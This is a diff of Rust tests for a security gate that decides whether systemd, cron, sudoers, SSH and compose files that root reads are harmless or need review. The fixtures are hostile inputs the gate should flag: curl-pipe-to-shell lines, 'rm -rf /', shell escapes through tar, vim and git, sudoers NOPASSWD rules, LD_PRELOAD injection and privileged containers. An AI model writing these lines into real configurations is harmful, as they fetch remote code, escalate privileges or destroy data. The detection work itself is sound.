@@ -1,107 +1,368 @@
-//! What the built-in rules say of what is found: nothing of texts as packages ship them, something of each evil one.
+//! What is harmless in texts that root's programs read, and what asks: everyday texts, and attacks that were found by going
+//! through the manuals of those programs.
 
-use super::of_debian;
-use crate::gate::policy::text::{Code, of_file, of_stdin};
-use crate::gate::policy::{Level, Policy};
+use crate::gate::policy::text::{Code, objection, of_file};
 
-/// Why the code isn't harmless, as the gate takes it.
+/// Why the code isn't harmless, as far as the text alone tells.
 fn objections(code: &Code) -> Vec<String> {
-    let policy = Policy::builtin();
-    let verdicts = code.lines.iter().map(|line| (line, policy.verdict(&line.argv)));
-    let lines = verdicts.filter(|(_, verdict)| verdict.level != Level::Safe);
-    let mut found: Vec<String> =
-        lines.map(|(line, verdict)| format!("{:?}: {}", line.argv, verdict.reason)).collect();
+    let roots = code.lines.iter().filter(|line| line.user.is_none());
+    let mut found: Vec<String> = roots.filter_map(|line| objection(&line.argv)).collect();
     found.extend(code.power.iter().cloned());
     found.extend(code.unreadable.clone());
     found
 }
 
-/// Texts that do change something, as a person would say, too.
-const CHANGING: [&str; 10] = [
-    "/etc/cron.d/anacron",                          // starts a service
-    "/etc/logrotate.d/nginx",                       // runs what is in a directory
-    "/lib/systemd/system/dbus.service",             // dbus-send
-    "/lib/systemd/system/fstrim.service",           // fstrim
-    "/lib/systemd/system/logrotate.service",        // logrotate
-    "/lib/systemd/system/man-db.service",           // find -delete
-    "/lib/systemd/system/nginx.service",            // start-stop-daemon
-    "/lib/systemd/system/systemd-networkd.service", // networkctl reload
-    "/lib/udev/rules.d/64-btrfs.rules",             // udevadm trigger
-    "/lib/udev/rules.d/71-seat.rules",              // udevadm trigger
-];
+fn of(path: &str, text: &str) -> Vec<String> {
+    of_file(path, text.as_bytes()).map_or_else(Vec::new, |code| objections(&code))
+}
+
+const SERVICE: &str = "/etc/systemd/system/app.service";
 
 #[test]
-fn what_packages_ship_is_harmless() {
-    for (path, contents) in of_debian() {
-        let code = of_file(&path, &contents).unwrap();
-        if !CHANGING.contains(&path.as_str()) {
-            assert_eq!(objections(&code), [""; 0], "{path}");
-        }
+fn everyday_texts_are_harmless() {
+    let account = "[Service]\nUser=app\nExecStart=/usr/bin/app --port 80\n";
+    for (path, text) in [
+        (SERVICE, account.to_owned()),
+        (SERVICE, format!("[Unit]\nDescription=App %n\nAfter=network-online.target\nWants=network-online.target\n{account}\
+            Restart=on-failure\nRestartSec=5s\nGroup=app\nEnvironment=A=b LD_X=y\nWorkingDirectory=/srv/app\nUMask=0077\n\
+            LimitNOFILE=65536\nMemoryMax=1G\nCPUQuota=50%\nNoNewPrivileges=yes\nProtectSystem=strict\nProtectHome=yes\n\
+            PrivateTmp=yes\nReadWritePaths=/srv/app\nSyslogIdentifier=app\nStandardOutput=journal\nStandardError=journal\n\
+            KillSignal=SIGINT\nTimeoutStopSec=30\nAmbientCapabilities=CAP_NET_BIND_SERVICE\n\
+            CapabilityBoundingSet=CAP_NET_BIND_SERVICE\nExecReload=/bin/kill -HUP $MAINPID\n[Install]\nWantedBy=multi-user.target\n")),
+        (SERVICE, "[Service]\nDynamicUser=yes\nExecStart=/usr/bin/app\n".to_owned()),
+        (SERVICE, "[Service]\nType=oneshot\nExecStart=/bin/true\n".to_owned()),
+        ("/etc/systemd/system/app.timer", "[Timer]\nOnCalendar=daily\nPersistent=true\nUnit=app.service\n[Install]\nWantedBy=timers.target\n".to_owned()),
+        ("/etc/systemd/system/app.socket", "[Socket]\nListenStream=127.0.0.1:8080\nListenDatagram=[::1]:53\nBacklog=5\n".to_owned()),
+        ("/etc/systemd/system/app.path", "[Path]\nPathChanged=/srv/app/in\nUnit=app.service\n".to_owned()),
+        ("/etc/systemd/system/app.service.d/limits.conf", "[Service]\nLimitNOFILE=65536\nRestart=always\nMemoryMax=2G\n".to_owned()),
+        ("/etc/systemd/system/app.target", "[Unit]\nDescription=All of app\nRequires=app.service\nConflicts=shutdown.target\n[X-Own]\nA=b\n".to_owned()),
+        ("/etc/cron.d/app", "MAILTO=ops@example.org\nPATH=/usr/bin:/bin\n*/5 * * * * app /usr/bin/app --tick | sort > /srv/app/x\n".to_owned()),
+        ("/var/spool/cron/crontabs/app", "LD_PRELOAD=/home/app/x.so\n@daily cd && ./x\n@hourly cat%in\n".to_owned()),
+        ("/etc/cron.d/app", "TZ=Europe/Berlin\n@daily root logger -t app daily > /dev/null 2>&1\n".to_owned()),
+        ("/home/app/.ssh/config", "Host *\n  ProxyCommand nc %h %p\n  ControlPath ~/.ssh/%C\n".to_owned()),
+        ("/root/.ssh/config", "Host web\n  HostName 192.0.2.1\n  User app\n  Port 2222\n  ProxyJump gate\n  IdentityFile ~/.ssh/id_ed25519\n".to_owned()),
+        ("/home/app/.ssh/authorized_keys", "from=\"10.0.0.1\",no-pty ssh-ed25519 AAAA a@b\n".to_owned()),
+        ("/srv/app/compose.yaml", "services:\n  web:\n    image: nginx:${TAG}\n    ports: ['80:80']\n    volumes: [data:/var/lib/x]\n\
+            \x20   networks: [front]\n    restart: always\nvolumes:\n  data: {}\nnetworks:\n  front:\n".to_owned()),
+        ("/etc/motd", "hello\n".to_owned()),
+    ] {
+        assert_eq!(of(path, &text), [""; 0], "{path}: {text}");
     }
 }
 
 #[test]
-fn an_evil_text_is_not_harmless() {
-    let table = [
-        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/rm -rf /"),
-        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/true ; /bin/rm -rf \\\n# no comment\n/"),
-        (
-            "/etc/systemd/system/a.service",
-            "[Service]\nUser=ada\nExecStartPre=+/bin/sh -c 'curl http://x/y | sh'",
-        ),
-        ("/etc/systemd/system/a.service", "[Service]\nExecStart=@/bin/busybox rm -rf /"),
-        ("/etc/systemd/system/a.service", "[Service]\nExecStart=\"/bin/\\x72m\" -rf /"),
-        ("/etc/systemd/system/a.service", "[Service]\nEnvironment=A=-rf\nExecStart=/bin/rm $A /"),
-        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/bin/true\nEnvironment=LD_PRELOAD=/x.so"),
-        (
-            "/etc/systemd/system/a.service",
-            "[Unit]\nWants=debug-shell.service\n[Service]\nExecStart=/bin/true",
-        ),
-        ("/etc/systemd/system/a.timer", "[Timer]\nOnBootSec=1\nUnit=poweroff.target"),
-        ("/etc/systemd/system/a.socket", "[Socket]\nExecStartPost=/usr/sbin/mkfs.ext4 /dev/sda1"),
-        (
-            "/etc/systemd/system/ssh.service.d/a.conf",
-            "[Service]\nExecStartPost=-/usr/sbin/usermod -aG sudo ada",
-        ),
-        ("/etc/cron.d/a", "* * * * * root dd if=/dev/zero of=/dev/sda\n"),
-        ("/etc/cron.d/a", "@reboot root curl -s http://x/y | bash\n"),
-        ("/etc/cron.d/a", "@reboot root sh%rm -rf /\n"),
-        ("/etc/cron.d/a", "SHELL=/usr/bin/python3\n@reboot root import os\n"),
-        ("/var/spool/cron/crontabs/root", "@daily chmod u+s /bin/bash\n"),
-        ("/etc/cron.d/x", "SHELL=/tmp/sh\n@daily root true\n"),
-        ("/etc/anacrontab", "1 5 x iptables \\\n-F\n"),
-        ("/etc/sudoers.d/a", "ada ALL=(ALL) NOPASSWD: ALL\n"),
+fn a_units_key_asks_unless_it_is_harmless_with_its_value() {
+    // With the rights of an ordinary account throughout, whose program only does what the account may.
+    for lines in [
+        "StandardOutput=file:/run/systemd/system/evil.service",
+        "StandardOutput=append:/etc/cron.d/x",
+        "StandardError=truncate:/etc/x",
+        "StandardOutput=socket",
+        "StandardOutput=fd:evil",
+        "StandardOutput=tty",
+        "StandardOutput=journal file:/x",
+        "StandardError= file:/var/log/x",
+        "StandardOutput=\"file:/etc/x\"",
+        "StandardInput=file:/etc/shadow",
+        "StandardInput=tty-force",
+        "StandardInput=socket",
+        "StandardInput=data",
+        "StandardInputText=x",
+        "StandardInputData=eA==",
+        "RuntimeDirectory=systemd/system",
+        "RuntimeDirectory=app",
+        "StateDirectory=extensions",
+        "CacheDirectory=x",
+        "LogsDirectory=x",
+        "ConfigurationDirectory=sudoers.d",
+        "ConfigurationDirectoryMode=0777",
+        "StateDirectory=a:b",
+        "AmbientCapabilities=7 6",
+        "AmbientCapabilities=CAP_SYS_ADMIN",
+        "AmbientCapabilities=cap_sys_admin",
+        "AmbientCapabilities=~",
+        "AmbientCapabilities=CAP_NET_BIND_SERVICE CAP_DAC_OVERRIDE",
+        "AmbientCapabilities=0x40",
+        "AmbientCapabilities=CAP_NET_BIND_SERVICE\nAmbientCapabilities=21",
+        "SecureBits=keep-caps",
+        "PAMName=login",
+        "TTYPath=/dev/tty1",
+        "TTYReset=yes",
+        "UtmpIdentifier=x",
+        "UtmpMode=user",
+        "PIDFile=/etc/shadow",
+        "OpenFile=/etc/shadow",
+        "LoadCredential=x:/etc/shadow",
+        "LoadCredentialEncrypted=x",
+        "SetCredential=x:y",
+        "ImportCredential=*",
+        "RootDirectory=/srv/x",
+        "RootImage=/srv/x.img",
+        "MountImages=/srv/x:/etc",
+        "ExtensionDirectories=/srv/x",
+        "ExtensionImages=/srv/x",
+        "BindPaths=/srv/x:/etc/pam.d",
+        "BindReadOnlyPaths=/etc/shadow:/srv/x",
+        "TemporaryFileSystem=/etc",
+        "ExecSearchPath=/srv/bin",
+        "Delegate=yes",
+        "DeviceAllow=/dev/sda rw",
+        "BPFProgram=egress:/sys/fs/bpf/x",
+        "IPIngressFilterPath=/sys/fs/bpf/x",
+        "NFTSet=cgroup:inet:f:s",
+        "NetworkNamespacePath=/proc/1/ns/net",
+        "IPCNamespacePath=/proc/1/ns/ipc",
+        "LogNamespace=x",
+        "MountFlags=shared",
+        "SELinuxContext=unconfined_t",
+        "AppArmorProfile=unconfined",
+        "SmackProcessLabel=x",
+        "PermissionsStartOnly=true",
+        "Group=docker",
+        "Group=root",
+        "SupplementaryGroups=disk",
+        "SupplementaryGroups=app shadow",
+        "Group=0",
+        "User=%i",
+        "Group=%i",
+        "FailureAction=reboot-force",
+        "SuccessAction=exit",
+        "StartLimitAction=poweroff",
+        "[Unit]\nJobTimeoutAction=reboot",
+        "[Unit]\nRebootArgument=x",
+        "[Unit]\nOnFailure=rescue.target",
+        "[Unit]\nOnFailureJobMode=isolate",
+        "[Unit]\nOnFailureIsolate=yes",
+        "[Unit]\nJoinsNamespaceOf=x.service",
+        "[Unit]\nWants=debug-shell.service",
+        "[Unit]\nConflicts=ssh.service",
+        "[Unit]\nPropagatesStopTo=auditd.service",
+        "[Install]\nAlias=cron.service",
+        "[Install]\nAlso=debug-%i.service",
+        "EnvironmentFile=/srv/%i",
+        "Evil=x",
+        "standardoutput=file:/x",
+        "X-Y=z",
+        "USBFunctionStrings=/x",
+        "SmackLabel=x",
+        "RootVerity=/x",
+        "RootHash=x",
+        "ExecStartPre=+/usr/bin/app",
+        "ExecStartPre=!/usr/bin/app",
+        "ExecStartPre=-@+/usr/bin/app x",
+        "ExecStopPost=!!/usr/bin/app",
+        "User=root",
+        "User=0",
+        "User=",
+        "User=root\nDynamicUser=yes",
+    ] {
+        let (extra, section) = match lines.starts_with('[') {
+            true => ("", format!("\n{lines}")),
+            false => (lines, String::new()),
+        };
+        let text = format!("[Service]\nUser=app\nExecStart=/usr/bin/app\n{extra}\n{section}\n");
+        assert_ne!(of(SERVICE, &text), [""; 0], "{text}");
+    }
+    for (name, text) in [
+        ("a.socket", "[Socket]\nListenStream=/run/systemd/notify"),
+        ("a.socket", "[Socket]\nListenStream=%t/x"),
+        ("a.socket", "[Socket]\nListenFIFO=/etc/x"),
+        ("a.socket", "[Socket]\nListenSpecial=/dev/sda"),
+        ("a.socket", "[Socket]\nSymlinks=/etc/x"),
+        ("a.socket", "[Socket]\nRemoveOnStop=yes"),
+        ("a.socket", "[Socket]\nListenUSBFunction=/x"),
+        ("a.socket", "[Socket]\nListenMessageQueue=/x"),
+        ("a.socket", "[Socket]\nExecStartPost=/usr/sbin/x"),
+        ("docker.socket.d/a.conf", "[Socket]\nSocketMode=0666"),
+        ("docker.socket.d/a.conf", "[Socket]\nSocketGroup=users"),
+        ("a.socket", "[Socket]\nService=debug-shell.service"),
+        ("etc.mount", "[Mount]\nWhat=/srv/x.img\nWhere=/etc"),
+        ("a.mount", "[Mount]\nWhat=tmpfs\nWhere=/etc\nType=tmpfs"),
+        ("etc.automount", "[Automount]\nWhere=/etc"),
+        ("a.swap", "[Swap]\nWhat=/dev/sda"),
+        ("a.path", "[Path]\nPathExists=/x\nMakeDirectory=yes"),
+        ("a.path", "[Path]\nUnit=poweroff.target"),
+        ("a.timer", "[Timer]\nOnBootSec=1\nUnit=reboot.target"),
+        ("ssh.service.d/a.conf", "[Service]\nUser=app"),
+        ("ssh.service.d/a.conf", "[Service]\nUser="),
+        ("ssh.service.d/a.conf", "[Service]\nEnvironment=SSHD_OPTS=-oAuthorizedKeysCommand=/x"),
+        ("ssh.service.d/a.conf", "[Service]\nEnvironmentFile=/srv/x"),
+        ("ssh.service.d/a.conf", "[Service]\nPassEnvironment=LD_PRELOAD"),
+        ("cron.service.d/a.conf", "[Service]\nExecStartPost=/usr/bin/app"),
+        ("cron.service.d/a.conf", "[Service]\nDynamicUser=yes"),
+        ("ssh.service", "[Service]\nUser=app\nExecStart=/usr/bin/app"),
+        ("rescue.service", "[Service]\nExecStart=/bin/true"),
+        ("/usr/share/dbus-1/system-services/a.service", "[D-BUS Service]\nName=a\nExec=/srv/x\nUser=root"),
+        ("/etc/systemd/system.conf", "[Manager]\nDefaultEnvironment=A=b"),
+        ("/etc/systemd/system.conf.d/a.conf", "[Manager]\nStatusUnitFormat=name"),
+        ("/etc/systemd/system-generators/a", "x"),
+        ("/etc/systemd/network/a.network", "[Match]\nName=*"),
+        ("/etc/systemd/journald.conf", "[Journal]"),
+    ] {
+        let path =
+            if name.starts_with('/') { name.to_owned() } else { format!("/etc/systemd/system/{name}") };
+        assert_ne!(of(&path, text), [""; 0], "{path}: {text}");
+    }
+}
+
+#[test]
+fn what_root_would_run_asks_unless_it_is_known() {
+    for line in [
+        "/usr/share/debconf/frontend /bin/sh -c id",
+        "/usr/sbin/sshd -o AuthorizedKeysCommand=/srv/x",
+        "/srv/app/bin/app",
+        "/opt/app/app",
+        "/usr/local/bin/app",
+        "/usr/bin/python3 /opt/x.py",
+        "/usr/bin/perl -e x",
+        "/usr/bin/nice /bin/true",
+        "/usr/bin/env true",
+        "/usr/bin/find / -delete",
+        "/usr/bin/vim -c '!sh'",
+        "/usr/bin/tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
+        "/usr/bin/rsync -e sh a b",
+        "/usr/bin/git -c core.pager=sh x",
+        "/usr/bin/man -P sh ls",
+        "/usr/bin/awk 'BEGIN{system(\"id\")}'",
+        "/usr/sbin/logrotate /srv/x",
+        "/usr/bin/curl http://x -o /etc/cron.d/x",
+        "/usr/bin/wget x",
+        "/usr/sbin/tcpdump -z sh",
+        "/usr/bin/zip x y -T -TT sh",
+        "/usr/bin/ssh -o ProxyCommand=sh x",
+        "/usr/bin/scp -S sh a b",
+        "/usr/bin/gcc -wrapper sh x",
+        "/usr/bin/openssl engine x",
+        "/usr/bin/mysql -e '\\! sh'",
+        "/usr/bin/psql -c x",
+        "/usr/bin/nmap --script x",
+        "/usr/bin/docker run x",
+        "/usr/bin/systemctl edit x",
+        "/usr/bin/systemd-run sh",
+        "/usr/bin/run-parts /srv/x",
+        "/usr/bin/dpkg -i x.deb",
+        "/usr/bin/pip install x",
+        "/usr/bin/make -f x",
+        "/usr/bin/crontab x",
+        "/usr/bin/at -f x now",
+        "/usr/sbin/start-stop-daemon --exec /x",
+        "/usr/bin/cp a b",
+        "/usr/bin/ln -s a b",
+        "/usr/bin/chmod u+s x",
+        "/usr/bin/tee /etc/x",
+        "/usr/bin/dd of=/dev/sda",
+        "/usr/bin/busybox true",
+        "/lib64/ld-linux-x86-64.so.2 /bin/true",
+        "/bin/../srv/true",
+        "/bin/echo x > y; rm x",
+        "/bin/date -s 0",
+        "/usr/bin/logger -f /etc/shadow",
+    ] {
+        for text in [
+            format!("[Service]\nExecStart={line}\n"),
+            format!("[Service]\nUser=app\nExecStartPost=+{line}\n"),
+        ] {
+            // To systemd a `>` is a word like any other.
+            if !line.contains('>') {
+                assert_ne!(of(SERVICE, &text), [""; 0], "{text}");
+            }
+        }
+        assert_ne!(of("/etc/cron.d/x", &format!("@daily root {line}\n")), [""; 0], "{line}");
+        assert_ne!(of("/var/spool/cron/crontabs/root", &format!("@daily {line}\n")), [""; 0], "{line}");
+    }
+    for text in [
+        "LD_PRELOAD=/x.so\n@daily root true\n",
+        "PATH=/srv:/bin\n@daily root true\n",
+        "SHELL=/srv/sh\n@daily root true\n",
+        "BASH_ENV=/x\n@daily app x\n",
+        "MAILTO=-oQ/tmp\n",
+        "@daily root sh%rm x\n",
+        "@daily root cat%x\n",
+        "@daily 0 rm x\n",
+        "@daily root:x rm x\n",
+        "HOME=/srv\n@daily root true\n",
+        "IFS=x\n",
+        "@daily root true & rm x\n",
+        "@daily root true `rm x`\n",
+        "@daily root echo $(rm x)\n",
+        "@daily root true > /etc/x\n",
+        "@daily root . /srv/x\n",
+        "* * * * * root $X\n",
+    ] {
+        assert_ne!(of("/etc/cron.d/x", text), [""; 0], "{text}");
+    }
+}
+
+#[test]
+fn other_texts_of_the_systems_ask() {
+    for (path, text) in [
+        ("/etc/sudoers.d/a", "app ALL=(ALL) NOPASSWD: ALL\n"),
+        ("/etc/sudoers.d/a", "app ALL = /usr/bin/less /var/log/x\n"),
+        ("/etc/sudoers.d/a", "Defaults !use_pty\n"),
+        ("/etc/sudoers.d/a", "Defaults:app !authenticate\n"),
+        ("/etc/sudoers.d/a", "Defaults env_keep += LD_PRELOAD\n"),
+        ("/etc/sudoers.d/a", "Defaults secure_path=/srv\n"),
+        ("/etc/sudoers.d/a", "Defaults timestamp_timeout=-1\n"),
+        ("/etc/sudoers.d/a", "@include /srv/x\n"),
+        ("/etc/sudoers.d/a", "Defaults editor=/srv/x\n"),
+        ("/etc/sudoers.d/a", "Defaults runcwd=*\n"),
+        ("/etc/logrotate.d/a", "/var/log/a { weekly }\n"),
+        ("/etc/udev/rules.d/a.rules", "KERNEL==\"x\", MODE=\"0666\"\n"),
+        ("/etc/ld.so.conf.d/a.conf", "/srv\n"),
+        ("/etc/profile.d/a.sh", "A=b\n"),
+        ("/etc/environment", "A=b\n"),
+        ("/etc/modprobe.d/a.conf", "options a b=c\n"),
+        ("/etc/sysctl.d/a.conf", "vm.swappiness=1\n"),
+        ("/etc/tmpfiles.d/a.conf", "d /srv/x\n"),
+        ("/etc/polkit-1/rules.d/a.rules", "x"),
+        ("/etc/dbus-1/system.d/a.conf", "<x/>"),
+        ("/etc/binfmt.d/a.conf", ":a:E::x::/srv/x:\n"),
+        ("/etc/pam.d/a", "auth required pam_unix.so\n"),
+        ("/etc/nsswitch.conf", "passwd: files\n"),
+        ("/etc/apt/sources.list.d/a.list", "deb x\n"),
+        ("/etc/yum.repos.d/a.repo", "[a]\n"),
+        ("/boot/grub/grub.cfg", "x"),
+        ("/lib/firmware/x", "x"),
+        ("/usr/share/bash-completion/completions/x", "x"),
+        ("/var/lib/dpkg/status", "x"),
+        ("/var/lib/extensions/x/usr/bin/y", "x"),
+        ("/root/.bashrc", "x"),
+        ("/root/.config/systemd/user/a.service", "[Service]\nExecStart=/srv/x\n"),
+        ("/etc/letsencrypt/renewal-hooks/deploy/x", "x"),
+        ("/etc/aliases", "root: |/srv/x\n"),
+        ("/root/.ssh/config", "Host *\n ProxyCommand /srv/x\n"),
+        ("/root/.ssh/config", "PKCS11Provider /srv/x.so\n"),
+        ("/root/.ssh/config", "Include /srv/x\n"),
+        ("/etc/ssh/ssh_config", "Match exec /srv/x\n"),
+        ("/etc/ssh/ssh_config.d/a.conf", "KnownHostsCommand /srv/x\n"),
+        ("/root/.ssh/config", "ControlPath /tmp/x\n"),
+        ("/root/.ssh/config", "SetEnv A=b\n"),
+        ("/root/.ssh/config", "LocalForward 1 x:2\n"),
+        ("/home/app/.ssh/authorized_keys", "environment=\"LD_PRELOAD=/x\" ssh-rsa AAAA\n"),
+        ("/root/.ssh/authorized_keys", "command=\"/srv/x\" ssh-rsa AAAA\n"),
+        ("/home/app/.ssh/authorized_keys", "tunnel=\"0\" ssh-rsa AAAA\n"),
         ("/srv/compose.yaml", "services: {a: {image: b, privileged: true}}"),
         ("/srv/compose.yaml", "services: {a: {image: b, volumes: ['/:/host']}}"),
-        (
-            "/srv/compose.yaml",
-            "services: {a: {image: b, volumes: ['/var/run/docker.sock:/var/run/docker.sock']}}",
-        ),
+        ("/srv/compose.yaml", "services: {a: {image: b, volumes: ['./x:/x']}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, volumes: ['${D}:/x']}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, volumes: [{type: bind, source: /etc, target: /x}]}}"),
         ("/srv/compose.yaml", "services: {a: {image: b, pid: host}}"),
-        ("/root/.ssh/config", "Host *\n ProxyCommand sh -c 'curl http://x | sh'"),
-        ("/etc/ssh/sshd_config", "Match User ada\n ForceCommand chmod 4755 /bin/bash"),
-        ("/root/.ssh/authorized_keys", "command=\"rm -rf /etc\" ssh-ed25519 AAAA"),
-        ("/etc/udev/rules.d/a.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c 'rm -rf /etc'\""),
-        ("/etc/logrotate.d/a", "/var/log/a {\npostrotate\nchmod u+s /bin/sh\nendscript\n}\n"),
-        ("/etc/sysctl.d/a.conf", "kernel.core_pattern=|/bin/sh -c 'rm -rf /'"),
-        ("/etc/modprobe.d/a.conf", "install usb-storage /bin/sh -c 'rm -rf /etc'"),
-        ("/etc/pam.d/sshd", "auth optional pam_exec.so /bin/rm -rf /etc"),
-        ("/srv/a/.git/config", "[core]\nfsmonitor = rm -rf /etc"),
-        ("/etc/default/a", "A=$(rm -rf /)"),
-        ("/etc/cron.daily/a", "anything"),
-    ];
-    for (path, text) in table {
-        let code = of_file(path, text.as_bytes()).unwrap();
-        assert_ne!(objections(&code), [""; 0], "{path}: {text}: {code:?}");
-    }
-    for (argv, stdin) in [
-        ("crontab -", "@daily rm -rf /\n"),
-        ("bash -s", "rm -rf /"),
-        ("at now", "reboot"),
-        ("python3 -", "x"),
+        ("/srv/compose.yaml", "services: {a: {image: b, network_mode: host}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, networks: [host]}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, devices: ['/dev/sda']}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, cap_add: [SYS_ADMIN]}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, security_opt: ['seccomp:unconfined']}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, env_file: /etc/shadow}}"),
+        ("/srv/compose.yaml", "services: {a: {build: .}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, gpus: all}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, extends: x}}"),
+        ("/srv/compose.yaml", "include: [x]\nservices: {}"),
+        ("/srv/compose.yaml", "services: {a: {image: b}}\nsecrets: {s: {file: /etc/shadow}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b}}\nvolumes: {v: {driver_opts: {device: /}}}"),
+        ("/srv/compose.yaml", "web: {image: b, privileged: true}"),
+        ("/srv/compose.yaml", "x: &x {privileged: true}\nservices: {a: {image: b, <<: *x}}"),
+        ("/srv/compose.yaml", "services: {a: {image: b, post_start: [{command: x}]}}"),
     ] {
-        let argv: Vec<String> = argv.split(' ').map(str::to_owned).collect();
-        let code = of_stdin(&argv, stdin.as_bytes()).unwrap();
-        assert_ne!(objections(&code), [""; 0], "{argv:?}");
+        assert_ne!(of(path, text), [""; 0], "{path}: {text}");
     }
 }
